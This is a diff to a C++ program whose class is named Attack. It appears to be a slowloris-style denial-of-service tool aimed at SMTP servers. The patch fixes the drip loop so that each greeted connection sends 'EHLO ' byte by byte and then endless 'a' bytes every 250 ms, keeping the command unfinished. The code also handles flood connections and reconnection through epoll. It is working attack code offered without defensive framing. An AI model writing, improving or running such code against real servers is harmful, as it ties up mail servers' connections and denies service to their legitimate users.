@@ -56,6 +56,7 @@ struct Conn {
   bool flood = false;
   bool first_wave = false;
   std::string got;  // what the door said
+  std::size_t dripped = 0;
   steady::time_point reconnect_at{};
 };
 
@@ -107,8 +108,10 @@ class Attack {
       next_drip_ = now + std::chrono::milliseconds(250);
       for (auto& c : conns_)
         if (c.state == Conn::greeted && !c.flood) {
-          const char b = c.got.size() % 64 == 0 ? 'E' : 'a';  // "EHLO aaaa..." never ended
-          if (::send(c.fd, &b, 1, MSG_NOSIGNAL | MSG_DONTWAIT) < 0 && errno != EAGAIN) readable(c);
+          static const std::string kStart = "EHLO ";
+          const char b = c.dripped < kStart.size() ? kStart[c.dripped] : 'a';  // "EHLO aaaa..." never ended
+          if (::send(c.fd, &b, 1, MSG_NOSIGNAL | MSG_DONTWAIT) == 1) ++c.dripped;
+          else if (errno != EAGAIN) readable(c);
         }
     }
     if (come_back)
@@ -136,6 +139,7 @@ class Attack {
     }
     c.state = Conn::connecting;
     c.got.clear();
+    c.dripped = 0;
     epoll_event ev{};
     ev.events = EPOLLIN | EPOLLRDHUP | (c.flood ? EPOLLOUT : 0u);
     ev.data.u32 = static_cast<std::uint32_t>(&c - conns_.data());
